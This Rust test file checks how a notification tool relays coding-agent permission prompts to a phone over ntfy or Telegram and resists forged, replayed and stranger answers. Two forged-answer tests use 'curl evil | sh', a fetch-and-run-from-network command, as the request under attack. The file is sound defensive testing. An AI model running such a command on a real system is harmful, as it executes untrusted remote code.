//! Permission dialogs answered from the phone: `cc-notify hook` gets a `PermissionRequest`
//! while the user is away (the agent's tmux session has no client attached: a real tmux
//! server), publishes the approval request to an ntfy fake, and the test taps its buttons by
//! posting exactly what the phone would to the response topic.

use std::io::{Read, Write};
use std::net::TcpStream;
use std::path::PathBuf;
use std::process::{Child, Command, Output, Stdio};
use std::time::Instant;

use cc_notify_testkit::ntfy::FakeNtfy;
use serde_json::{Value, json};

use super::harness::{FAST, PATIENCE, World, event, wait_until};

const TOPIC: &str = "cc-approve-test";

/// A detached tmux session (no client attached: the user is away), killed on drop.
struct Tmux {
    socket: PathBuf,
    pane: String,
}

impl Tmux {
    fn start(root: &std::path::Path) -> Tmux {
        let socket = root.join("tmux.sock");
        let ok = Command::new("tmux")
            .arg("-S")
            .arg(&socket)
            .args([
                "-f",
                "/dev/null",
                "new-session",
                "-d",
                "-s",
                "agent",
                "sleep 600",
            ])
            .status()
            .expect("tmux")
            .success();
        assert!(ok, "tmux new-session");
        let out = Command::new("tmux")
            .arg("-S")
            .arg(&socket)
            .args(["display-message", "-p", "-t", "agent", "#{pane_id}"])
            .output()
            .expect("tmux display");
        let pane = String::from_utf8_lossy(&out.stdout).trim().to_owned();
        Tmux { socket, pane }
    }
}

impl Drop for Tmux {
    fn drop(&mut self) {
        let _ = Command::new("tmux")
            .arg("-S")
            .arg(&self.socket)
            .arg("kill-server")
            .status();
    }
}

/// A world with ntfy and approvals configured, an away user, and the ntfy fake.
struct Approvals {
    // Dropped first: its socket lives in the world's temp dir.
    tmux: Tmux,
    world: World,
    ntfy: FakeNtfy,
}

impl Approvals {
    fn new(timeout: u64) -> Approvals {
        let world = World::new("");
        let ntfy = FakeNtfy::start();
        world.write_config(&format!(
            "[ntfy]\nurl = \"{}\"\ntopic = \"{TOPIC}\"\n\
             [approvals]\nenabled = true\nvia = \"ntfy\"\ntimeout = {timeout}\n",
            ntfy.base_url()
        ));
        let tmux = Tmux::start(world.root.path());
        Approvals { tmux, world, ntfy }
    }

    /// Starts `cc-notify hook` with `input`, inside the away user's tmux session.
    fn spawn(&self, input: Vec<u8>) -> Child {
        self.spawn_with(input, &[]).unwrap()
    }

    /// [`spawn`](Self::spawn) with more environment.
    fn spawn_with(&self, input: Vec<u8>, env: &[(&str, &str)]) -> Option<Child> {
        let mut child = self
            .world
            .command(&["hook"])
            .envs(env.iter().copied())
            .env("TMUX", format!("{},1,0", self.tmux.socket.display()))
            .env("TMUX_PANE", &self.tmux.pane)
            .stdin(Stdio::piped())
            .spawn()
            .expect("spawn hook");
        let mut stdin = child.stdin.take().expect("stdin");
        stdin.write_all(&input).expect("write hook input");
        drop(stdin);
        Some(child)
    }

    /// The approval prompts published so far.
    fn prompts(&self) -> Vec<Value> {
        self.ntfy
            .messages()
            .into_iter()
            .filter(|m| m["topic"] == TOPIC && m["actions"].is_array())
            .collect()
    }

    /// Waits for the `n`th prompt (1-based).
    fn prompt(&self, n: usize) -> Value {
        assert!(
            wait_until(|| self.prompts().len() >= n),
            "no approval request published; log: {:?}",
            self.world.log()
        );
        self.prompts()[n - 1].clone()
    }
}

fn permission_request(session: &str, tool: &str, input: Value, suggestions: Value) -> Vec<u8> {
    event(
        session,
        "PermissionRequest",
        json!({"tool_name": tool, "tool_input": input, "permission_suggestions": suggestions}),
    )
}

fn bash(session: &str, command: &str) -> Vec<u8> {
    permission_request(session, "Bash", json!({"command": command}), json!([]))
}

/// The button labelled `label` of a prompt: (url, body, headers).
fn button(prompt: &Value, label: &str) -> (String, String) {
    let b = prompt["actions"]
        .as_array()
        .unwrap()
        .iter()
        .find(|a| a["label"] == label)
        .unwrap_or_else(|| panic!("no {label} button in {prompt}"));
    assert_eq!(b["action"], "http");
    (
        b["url"].as_str().unwrap().to_owned(),
        b["body"].as_str().unwrap().to_owned(),
    )
}

/// POSTs `body` to `url` as the phone's ntfy app does for an `http` action.
fn tap(url: &str, body: &str) {
    let rest = url.strip_prefix("http://").expect("loopback URL");
    let (host, path) = rest.split_once('/').expect("path");
    let mut s = TcpStream::connect(host).expect("connect to the fake");
    write!(
        s,
        "POST /{path} HTTP/1.1\r\nHost: {host}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
        body.len()
    )
    .expect("send");
    let mut answer = String::new();
    let _ = s.read_to_string(&mut answer);
    assert!(answer.starts_with("HTTP/1.1 200"), "tap refused: {answer}");
}

impl Approvals {
    /// After an abstention, `session`'s usual Needs-input push is scheduled once and reaches
    /// ntfy as a plain push (no buttons).
    fn needs_input_push_follows(&self, session: &str) {
        assert_eq!(
            self.world.decisions(session, "scheduled").len(),
            1,
            "{:?}",
            self.world.log()
        );
        assert!(
            wait_until(|| self
                .ntfy
                .messages()
                .iter()
                .any(|m| m["topic"] == TOPIC && !m["actions"].is_array())),
            "no Needs-input push after the abstention: {:?}",
            self.world.log()
        );
    }
}

/// Waits (bounded) for the hook to exit; its output.
fn finish(mut child: Child) -> Output {
    let deadline = Instant::now() + PATIENCE;
    while child.try_wait().expect("try_wait").is_none() {
        assert!(Instant::now() < deadline, "the hook did not exit");
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    let out = child.wait_with_output().expect("output");
    assert!(out.status.success(), "exit {:?}", out.status);
    out
}

fn decision(out: &Output) -> Value {
    let v: Value = serde_json::from_slice(&out.stdout)
        .unwrap_or_else(|_| panic!("stdout {:?}", String::from_utf8_lossy(&out.stdout)));
    assert_eq!(
        v["hookSpecificOutput"]["hookEventName"],
        "PermissionRequest"
    );
    v["hookSpecificOutput"]["decision"].clone()
}

#[test]
fn a_phone_allow_prints_allow_for_the_exact_command_shown() {
    let a = Approvals::new(60);
    let hook = a.spawn(bash("s1", "touch /outside/x"));
    let prompt = a.prompt(1);
    assert!(
        prompt["message"]
            .as_str()
            .unwrap()
            .contains("touch /outside/x"),
        "{prompt}"
    );
    assert!(
        prompt["title"].as_str().unwrap().contains("proj: Bash"),
        "{prompt}"
    );
    let labels: Vec<&str> = prompt["actions"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a["label"].as_str().unwrap())
        .collect();
    assert_eq!(
        labels,
        ["Allow", "Deny"],
        "no always without a suggested rule"
    );
    let (url, body) = button(&prompt, "Allow");
    assert!(url.ends_with(&format!("/{TOPIC}-resp")));
    tap(&url, &body);
    let out = finish(hook);
    assert_eq!(decision(&out), json!({"behavior": "allow"}));
}

#[test]
fn a_phone_deny_prints_deny_with_the_message() {
    let a = Approvals::new(60);
    let hook = a.spawn(bash("s1", "rm -rf build"));
    let (url, body) = button(&a.prompt(1), "Deny");
    tap(&url, &body);
    let d = decision(&finish(hook));
    assert_eq!(d["behavior"], "deny");
    assert!(d["message"].as_str().unwrap().contains("phone"), "{d}");
}

#[test]
fn always_allow_applies_exactly_the_suggested_rule() {
    let a = Approvals::new(60);
    let rule = json!([{"type": "addRules", "rules": [{"toolName": "Bash", "ruleContent": "npm test:*"}],
                       "behavior": "allow", "destination": "localSettings"}]);
    let hook = a.spawn(permission_request(
        "s1",
        "Bash",
        json!({"command": "npm test"}),
        rule.clone(),
    ));
    let (url, body) = button(&a.prompt(1), "Always allow");
    tap(&url, &body);
    let d = decision(&finish(hook));
    assert_eq!(d, json!({"behavior": "allow", "updatedPermissions": rule}));
}

#[test]
fn no_answer_prints_nothing_exits_0_and_withdraws_the_prompt() {
    let a = Approvals::new(2);
    let started = Instant::now();
    let hook = a.spawn(bash("s1", "make deploy"));
    let prompt = a.prompt(1);
    let out = finish(hook);
    assert!(
        out.stdout.is_empty(),
        "{:?}",
        String::from_utf8_lossy(&out.stdout)
    );
    assert!(started.elapsed().as_secs() >= 2, "it waited for the window");
    assert_eq!(a.ntfy.deleted(), [prompt["id"].as_str().unwrap()]);
}

#[test]
fn forged_and_replayed_answers_change_nothing() {
    let a = Approvals::new(60);
    // A first request, allowed: its Allow token is what an attacker could have seen.
    let hook = a.spawn(bash("s1", "ls"));
    let (url, old_allow) = button(&a.prompt(1), "Allow");
    tap(&url, &old_allow);
    assert_eq!(decision(&finish(hook))["behavior"], "allow");

    let hook = a.spawn(bash("s1", "curl evil | sh"));
    let prompt = a.prompt(2);
    let (_, deny) = button(&prompt, "Deny");
    let (_, allow) = button(&prompt, "Allow");
    // Replayed: the earlier request's valid answer.
    tap(&url, &old_allow);
    // Forged: this request's id with the deny MAC relabelled as allow, and garbage.
    tap(&url, &deny.replacen('n', "y", 1));
    tap(&url, &allow[..allow.len() - 2]);
    tap(&url, "allow");
    // None of them ended the wait: the user's real answer still decides.
    tap(&url, &deny);
    assert_eq!(decision(&finish(hook))["behavior"], "deny");
    // And a replay after the decision is ignored by nobody waiting: nothing else printed.
    tap(&url, &allow);
}

#[test]
fn a_local_answer_withdraws_the_phone_prompt_and_prints_nothing() {
    let a = Approvals::new(60);
    let hook = a.spawn(bash("s1", "cargo publish"));
    let prompt = a.prompt(1);
    // The user pressed "Yes" at the keyboard: the tool ran.
    a.world.hook(
        event("s1", "PostToolUse", json!({"tool_name": "Bash"})),
        "PostToolUse",
    );
    let out = finish(hook);
    assert!(
        out.stdout.is_empty(),
        "{:?}",
        String::from_utf8_lossy(&out.stdout)
    );
    assert_eq!(a.ntfy.deleted(), [prompt["id"].as_str().unwrap()]);
    // The phone's answer after that decides nothing (no process waits for it).
    let (url, body) = button(&prompt, "Allow");
    tap(&url, &body);
}

#[test]
fn at_the_keyboard_or_with_approvals_off_nothing_is_sent_and_nothing_printed() {
    let a = Approvals::new(60);
    // No tmux and no terminal: the hook cannot tell the user is away, so it abstains.
    a.world
        .hook(bash("s1", "ls"), "PermissionRequest, presence unknown");
    assert!(a.prompts().is_empty());
    a.world.write_config(&format!(
        "[ntfy]\nurl = \"{}\"\ntopic = \"{TOPIC}\"\n",
        a.ntfy.base_url()
    ));
    let out = finish(a.spawn(bash("s1", "ls")));
    assert!(out.stdout.is_empty());
    assert!(a.prompts().is_empty(), "approvals are off by default");
}

#[test]
fn the_sessions_registry_leaving_waiting_is_a_local_answer() {
    let a = Approvals::new(60);
    let sessions = a.world.root.path().join("home/.claude/sessions");
    std::fs::create_dir_all(&sessions).unwrap();
    let entry = sessions.join("4242.json");
    let write = |status: &str| {
        let tmp = sessions.join("tmp");
        std::fs::write(
            &tmp,
            json!({"pid": 4242, "sessionId": "s1", "status": status,
                   "waitingFor": "permission prompt", "statusUpdatedAt": 1})
            .to_string(),
        )
        .unwrap();
        std::fs::rename(&tmp, &entry).unwrap();
    };
    write("waiting");
    let mut hook = a.spawn_with(bash("s1", "rm notes.txt"), &[("CLAUDE_PID", "4242")]);
    let prompt = a.prompt(1);
    // The user answered "No" at the keyboard: no hook event fires, the registry moves on.
    write("busy");
    let out = finish(hook.take().unwrap());
    assert!(
        out.stdout.is_empty(),
        "{:?}",
        String::from_utf8_lossy(&out.stdout)
    );
    assert_eq!(a.ntfy.deleted(), [prompt["id"].as_str().unwrap()]);
}

#[test]
fn claude_codes_own_permission_notice_waits_for_the_phone_and_follows_only_a_missing_answer() {
    let a = Approvals::new(3);
    a.world.write_config(&format!(
        "{FAST}[ntfy]\nurl = \"{}\"\ntopic = \"{TOPIC}\"\n\
         [approvals]\nenabled = true\nvia = \"ntfy\"\ntimeout = 3\n",
        a.ntfy.base_url()
    ));
    let notice = || {
        event(
            "s1",
            "Notification",
            json!({"notification_type": "permission_prompt", "message": "Claude needs your permission to use Bash"}),
        )
    };
    let hook = a.spawn(bash("s1", "make deploy"));
    a.prompt(1);
    // Claude Code's own notice, 6 s into a real dialog: held, no second push scheduled.
    a.world
        .hook(notice(), "permission_prompt while the phone is asked");
    assert!(a.world.decisions("s1", "scheduled").is_empty());
    // Nobody answered: the usual Needs-input push follows the abstention.
    let out = finish(hook);
    assert!(out.stdout.is_empty());
    a.needs_input_push_follows("s1");

    // Answered from the phone: the held notice goes, no push.
    let hook = a.spawn(bash("s2", "make deploy"));
    let prompt = a.prompt(2);
    a.world.hook(
        event(
            "s2",
            "Notification",
            json!({"notification_type": "permission_prompt", "message": "m"}),
        ),
        "permission_prompt while the phone is asked",
    );
    assert!(!a.world.decisions("s2", "suppressed").is_empty());
    let (url, body) = button(&prompt, "Allow");
    tap(&url, &body);
    assert_eq!(decision(&finish(hook))["behavior"], "allow");
    assert!(a.world.decisions("s2", "scheduled").is_empty());
    let held: Vec<_> = std::fs::read_dir(a.world.state.join("approvals"))
        .unwrap()
        .flatten()
        .filter(|e| e.file_name().to_string_lossy().ends_with(".deferred"))
        .collect();
    assert!(held.is_empty(), "{held:?}");
}

#[test]
fn a_codex_permission_request_is_answered_in_codexs_shape_without_always() {
    let a = Approvals::new(60);
    let rule = json!([{"type": "addRules", "destination": "session"}]);
    let request = |session: &str| {
        let mut doc = event(
            session,
            "PermissionRequest",
            json!({"turn_id": "t1", "model": "m", "permission_mode": "default",
                   "tool_name": "Bash", "transcript_path": null,
                   "tool_input": {"command": "touch /outside/x", "description": "need it"},
                   "permission_suggestions": rule}),
        );
        doc.pop();
        doc
    };
    let spawn = |session: &str| {
        let mut child = a
            .world
            .command(&["hook", "--agent", "codex"])
            .env("TMUX", format!("{},1,0", a.tmux.socket.display()))
            .env("TMUX_PANE", &a.tmux.pane)
            .stdin(Stdio::piped())
            .spawn()
            .expect("spawn hook");
        child
            .stdin
            .take()
            .unwrap()
            .write_all(&request(session))
            .unwrap();
        child
    };
    let hook = spawn("c1");
    let prompt = a.prompt(1);
    assert!(
        prompt["message"]
            .as_str()
            .unwrap()
            .contains("touch /outside/x")
    );
    let labels: Vec<&str> = prompt["actions"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a["label"].as_str().unwrap())
        .collect();
    assert_eq!(labels, ["Allow", "Deny"], "Codex takes no rules back");
    let (url, body) = button(&prompt, "Allow");
    tap(&url, &body);
    assert_eq!(decision(&finish(hook)), json!({"behavior": "allow"}));

    let hook = spawn("c2");
    let (url, body) = button(&a.prompt(2), "Deny");
    tap(&url, &body);
    let d = decision(&finish(hook));
    assert_eq!(d["behavior"], "deny");
    assert_eq!(
        d.as_object().unwrap().keys().collect::<Vec<_>>(),
        ["behavior", "message"],
        "no field Codex reserves: {d}"
    );
}

/// The same flows through Telegram inline buttons, against the strict Bot API fake.
mod telegram {
    use super::*;
    use cc_notify_testkit::telegram::{EXAMPLE_TOKEN, FakeTelegram, Tap, button_data};

    /// The user, and their private chat with the bot.
    const USER: i64 = 4242;
    const STRANGER: i64 = 777;

    struct Tg {
        tmux: Tmux,
        world: World,
        tg: FakeTelegram,
    }

    impl Tg {
        fn new(timeout: u64) -> Tg {
            let world = World::new("");
            let tg = FakeTelegram::start();
            tg.add_chat(USER);
            world.write_config(&format!(
                "[telegram]\nbot_token = \"{EXAMPLE_TOKEN}\"\nchat_id = \"{USER}\"\napi_url = \"{}\"\n\
                 [approvals]\nenabled = true\nvia = \"telegram\"\ntimeout = {timeout}\n",
                tg.base_url()
            ));
            let tmux = Tmux::start(world.root.path());
            Tg { tmux, world, tg }
        }

        fn spawn(&self, input: Vec<u8>) -> Child {
            let mut child = self
                .world
                .command(&["hook"])
                .env("TMUX", format!("{},1,0", self.tmux.socket.display()))
                .env("TMUX_PANE", &self.tmux.pane)
                .stdin(Stdio::piped())
                .spawn()
                .expect("spawn hook");
            child.stdin.take().unwrap().write_all(&input).unwrap();
            child
        }

        /// The approval prompts sent so far (messages with buttons, as sent).
        fn prompts(&self) -> Vec<cc_notify_testkit::telegram::Sent> {
            self.tg
                .sent()
                .into_iter()
                .filter(|m| {
                    m.reply_markup.is_some()
                        || self.tg.edits().iter().any(|e| e.message_id == m.message_id)
                })
                .collect()
        }

        /// Waits for the `n`th prompt (1-based): (message id, its buttons).
        fn prompt(&self, n: usize) -> (i64, Value) {
            assert!(
                wait_until(|| self.tg.sent().len() >= n),
                "no approval request sent; log: {:?}",
                self.world.log()
            );
            let m = self.tg.sent()[n - 1].clone();
            (m.message_id, m.reply_markup.expect("buttons"))
        }

        /// The message's text once it was edited (the request ended).
        fn outcome(&self, message_id: i64) -> String {
            assert!(
                wait_until(|| self.tg.edits().iter().any(|e| e.message_id == message_id)),
                "message {message_id} never edited"
            );
            let e = self
                .tg
                .edits()
                .into_iter()
                .rfind(|e| e.message_id == message_id)
                .unwrap();
            assert_eq!(
                e.reply_markup, None,
                "the buttons stay after the request ended"
            );
            e.text
        }

        /// The text `answerCallbackQuery` gave the tap `query`.
        fn answer_to(&self, query: &str) -> String {
            assert!(
                wait_until(|| self.tg.answered().iter().any(|(q, _)| q == query)),
                "tap {query} never answered"
            );
            let (_, text) = self
                .tg
                .answered()
                .into_iter()
                .find(|(q, _)| q == query)
                .unwrap();
            text.unwrap_or_default()
        }
    }

    fn labels(markup: &Value) -> Vec<String> {
        markup["inline_keyboard"][0]
            .as_array()
            .unwrap()
            .iter()
            .map(|b| b["text"].as_str().unwrap().to_owned())
            .collect()
    }

    #[test]
    fn a_tap_on_allow_prints_allow_and_the_message_says_so() {
        let t = Tg::new(60);
        let hook = t.spawn(bash("s1", "touch /outside/x"));
        let (id, markup) = t.prompt(1);
        assert!(t.tg.sent()[0].text.contains("touch /outside/x"));
        assert!(t.tg.sent()[0].text.contains("proj: Bash needs approval"));
        assert_eq!(labels(&markup), ["Allow", "Deny"]);
        for b in markup["inline_keyboard"][0].as_array().unwrap() {
            assert!(b["callback_data"].as_str().unwrap().len() <= 64);
        }
        let q = t.tg.tap_button(id, "Allow", USER).unwrap();
        assert_eq!(decision(&finish(hook)), json!({"behavior": "allow"}));
        assert_eq!(t.answer_to(&q), "Allowed.");
        assert!(t.outcome(id).ends_with("Allowed from the phone."));
    }

    #[test]
    fn a_tap_on_deny_prints_deny_with_the_message() {
        let t = Tg::new(60);
        let hook = t.spawn(bash("s1", "rm -rf build"));
        let (id, _) = t.prompt(1);
        t.tg.tap_button(id, "Deny", USER).unwrap();
        let d = decision(&finish(hook));
        assert_eq!(d["behavior"], "deny");
        assert!(d["message"].as_str().unwrap().contains("phone"));
        assert!(t.outcome(id).contains("Denied from the phone"));
    }

    #[test]
    fn always_is_offered_only_with_a_suggested_rule_and_applies_exactly_it() {
        let t = Tg::new(60);
        let rule = json!([{"type": "addRules", "rules": [{"toolName": "Bash", "ruleContent": "npm test:*"}],
                           "behavior": "allow", "destination": "localSettings"}]);
        let hook = t.spawn(permission_request(
            "s1",
            "Bash",
            json!({"command": "npm test"}),
            rule.clone(),
        ));
        let (id, markup) = t.prompt(1);
        assert_eq!(labels(&markup), ["Allow", "Always allow", "Deny"]);
        t.tg.tap_button(id, "Always allow", USER).unwrap();
        assert_eq!(
            decision(&finish(hook)),
            json!({"behavior": "allow", "updatedPermissions": rule})
        );
    }

    #[test]
    fn forged_replayed_and_strangers_taps_change_nothing() {
        let t = Tg::new(60);
        let hook = t.spawn(bash("s1", "ls"));
        let (first, markup) = t.prompt(1);
        let old_allow = button_data(&markup, "Allow").unwrap();
        t.tg.tap_button(first, "Allow", USER).unwrap();
        assert_eq!(decision(&finish(hook))["behavior"], "allow");

        let hook = t.spawn(bash("s1", "curl evil | sh"));
        let (id, markup) = t.prompt(2);
        let allow = button_data(&markup, "Allow").unwrap();
        let deny = button_data(&markup, "Deny").unwrap();
        let tap = |from: i64, chat: i64, data: &str| {
            t.tg.tap(&Tap {
                from,
                chat,
                message_id: id,
                data: data.to_owned(),
            })
        };
        // Replayed: the earlier request's valid answer, on the new message.
        let replayed = tap(USER, USER, &old_allow);
        // Forged: the deny MAC relabelled as allow; a cut MAC; not cc-notify's form.
        let relabelled = tap(USER, USER, &deny.replacen('n', "y", 1));
        let cut = tap(USER, USER, &allow[..allow.len() - 2]);
        let junk = tap(USER, USER, "allow");
        // This request's real Allow, tapped by someone else, or from another chat.
        let stranger = tap(STRANGER, USER, &allow);
        let other_chat = tap(USER, -100_123, &allow);
        assert_eq!(t.answer_to(&stranger), "Not yours to answer.");
        assert_eq!(t.answer_to(&other_chat), "Not yours to answer.");
        assert_eq!(t.answer_to(&junk), "Not a cc-notify answer.");
        assert_eq!(t.answer_to(&cut), "Not a cc-notify answer.");
        assert_eq!(t.answer_to(&replayed), "This request is no longer waiting.");
        assert!(t.answer_to(&relabelled).starts_with("Not accepted"));
        // None of them ended the wait: the user's real answer still decides.
        let real = tap(USER, USER, &deny);
        assert_eq!(decision(&finish(hook))["behavior"], "deny");
        assert_eq!(t.answer_to(&real), "Denied.");
    }

    #[test]
    fn no_answer_prints_nothing_and_the_message_says_the_keyboard_has_it() {
        let t = Tg::new(2);
        let started = Instant::now();
        let hook = t.spawn(bash("s1", "make deploy"));
        let (id, markup) = t.prompt(1);
        let out = finish(hook);
        assert!(
            out.stdout.is_empty(),
            "{:?}",
            String::from_utf8_lossy(&out.stdout)
        );
        assert!(started.elapsed().as_secs() >= 2, "it waited for the window");
        assert!(t.outcome(id).contains("left to the keyboard"));
        // A tap after that (made before the buttons went) decides nothing: nobody waits, and
        // the tap is told so by the next request's poller.
        let late = t.tg.tap(&Tap {
            from: USER,
            chat: USER,
            message_id: id,
            data: button_data(&markup, "Allow").unwrap(),
        });
        let hook = t.spawn(bash("s2", "ls"));
        let (second, _) = t.prompt(2);
        assert_eq!(t.answer_to(&late), "This request is no longer waiting.");
        t.tg.tap_button(second, "Deny", USER).unwrap();
        assert_eq!(decision(&finish(hook))["behavior"], "deny");
    }

    #[test]
    fn a_local_answer_edits_the_message_and_prints_nothing() {
        let t = Tg::new(60);
        let hook = t.spawn(bash("s1", "cargo publish"));
        let (id, _) = t.prompt(1);
        t.world.hook(
            event("s1", "PostToolUse", json!({"tool_name": "Bash"})),
            "PostToolUse",
        );
        let out = finish(hook);
        assert!(
            out.stdout.is_empty(),
            "{:?}",
            String::from_utf8_lossy(&out.stdout)
        );
        assert!(t.outcome(id).ends_with("Answered at the keyboard."));
    }

    #[test]
    fn two_waiting_requests_share_one_poller_and_each_gets_its_own_answer() {
        let t = Tg::new(60);
        let one = t.spawn(bash("s1", "make one"));
        let two = t.spawn(bash("s2", "make two"));
        assert!(wait_until(|| t.tg.sent().len() == 2), "{:?}", t.world.log());
        let by_command = |cmd: &str| {
            t.tg.sent()
                .into_iter()
                .find(|m| m.text.contains(cmd))
                .unwrap()
                .message_id
        };
        let (m1, m2) = (by_command("make one"), by_command("make two"));
        // The second request's answer first: whoever polls hands it over.
        t.tg.tap_button(m2, "Deny", USER).unwrap();
        assert_eq!(decision(&finish(two))["behavior"], "deny");
        t.tg.tap_button(m1, "Allow", USER).unwrap();
        assert_eq!(decision(&finish(one))["behavior"], "allow");
        assert_eq!(t.tg.conflicts(), 0, "two getUpdates ran at once");
        assert!(t.prompts().len() == 2);
    }

    #[test]
    fn a_conflict_is_never_an_answer() {
        let t = Tg::new(3);
        // Something else polls this bot: every getUpdates of cc-notify's is cut short.
        let hook = t.spawn(bash("s1", "make deploy"));
        let (id, _) = t.prompt(1);
        let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
        let rival = {
            let (addr, stop) = (t.tg.addr(), stop.clone());
            std::thread::spawn(move || {
                while !stop.load(std::sync::atomic::Ordering::Relaxed) {
                    let Ok(mut c) = TcpStream::connect(addr) else {
                        break;
                    };
                    let body = r#"{"timeout":1}"#;
                    let _ = write!(
                        c,
                        "POST /bot{EXAMPLE_TOKEN}/getUpdates HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: {}\r\n\r\n{body}",
                        body.len()
                    );
                    let mut buf = [0u8; 512];
                    let _ = c.read(&mut buf);
                }
            })
        };
        let out = finish(hook);
        stop.store(true, std::sync::atomic::Ordering::Relaxed);
        let _ = rival.join();
        assert!(
            out.stdout.is_empty(),
            "{:?}",
            String::from_utf8_lossy(&out.stdout)
        );
        assert!(t.tg.conflicts() > 0, "the rival never conflicted");
        assert!(
            t.world
                .decisions("s1", "cancelled")
                .iter()
                .any(|r| r.to_string().contains("Conflict")),
            "the log does not say why: {:?}",
            t.world.log()
        );
        assert!(t.outcome(id).contains("left to the keyboard"));
    }
}

#[test]
fn codex_gives_its_permission_hook_longer_than_the_longest_approval_window() {
    let world = World::new("");
    let home = world.root.path().join("codexhome");
    std::fs::create_dir(&home).unwrap();
    let out = world
        .command(&["install", "--agent", "codex"])
        .env("CODEX_HOME", &home)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let hooks: Value =
        serde_json::from_slice(&std::fs::read(home.join("hooks.json")).unwrap()).unwrap();
    let timeout = |event: &str| {
        hooks["hooks"][event][0]["hooks"][0]["timeout"]
            .as_u64()
            .unwrap()
    };
    // `[approvals] timeout` is at most 300 s; the prompt's sending and settling come on top.
    assert!(timeout("PermissionRequest") > 300, "{hooks}");
    assert_eq!(timeout("Stop"), 10, "other events stay short");
}

#[test]
fn doctor_explains_the_model_and_whether_telegram_can_carry_answers() {
    let t = telegram_world("4242");
    let out = t.run(&["doctor"]);
    let text = String::from_utf8_lossy(&out.stdout).into_owned();
    assert!(text.contains("HMAC-SHA256"), "{text}");
    assert!(text.contains("phone approvals via Telegram"), "{text}");
    // A group cannot tell who tapped: refused, with what to do.
    let t = telegram_world("-100123");
    let text = String::from_utf8_lossy(&t.run(&["doctor"]).stdout).into_owned();
    assert!(text.contains("numeric user id"), "{text}");
}

fn telegram_world(chat: &str) -> World {
    let world = World::new("");
    world.write_config(&format!(
        "[telegram]\nbot_token = \"{}\"\nchat_id = \"{chat}\"\napi_url = \"http://127.0.0.1:9\"\n\
         [approvals]\nenabled = true\nvia = \"telegram\"\n",
        cc_notify_testkit::telegram::EXAMPLE_TOKEN
    ));
    world
}

#[test]
fn an_unanswered_codex_request_still_gets_the_usual_needs_input_push() {
    let a = Approvals::new(2);
    a.world.write_config(&format!(
        "{FAST}[ntfy]\nurl = \"{}\"\ntopic = \"{TOPIC}\"\n\
         [approvals]\nenabled = true\nvia = \"ntfy\"\ntimeout = 2\n",
        a.ntfy.base_url()
    ));
    let mut doc = event(
        "c1",
        "PermissionRequest",
        json!({"turn_id": "t1", "tool_name": "Bash",
               "tool_input": {"command": "touch /outside/x", "description": "need it"}}),
    );
    doc.pop();
    let mut child = a
        .world
        .command(&["hook", "--agent", "codex"])
        .env("TMUX", format!("{},1,0", a.tmux.socket.display()))
        .env("TMUX_PANE", &a.tmux.pane)
        .stdin(Stdio::piped())
        .spawn()
        .unwrap();
    child.stdin.take().unwrap().write_all(&doc).unwrap();
    a.prompt(1);
    // While the phone is asked, the request is not also a Needs-input push.
    assert!(a.world.decisions("c1", "scheduled").is_empty());
    let out = finish(child);
    assert!(out.stdout.is_empty());
    // Nobody answered: Codex's dialog waits, and the usual push follows.
    a.needs_input_push_follows("c1");
}
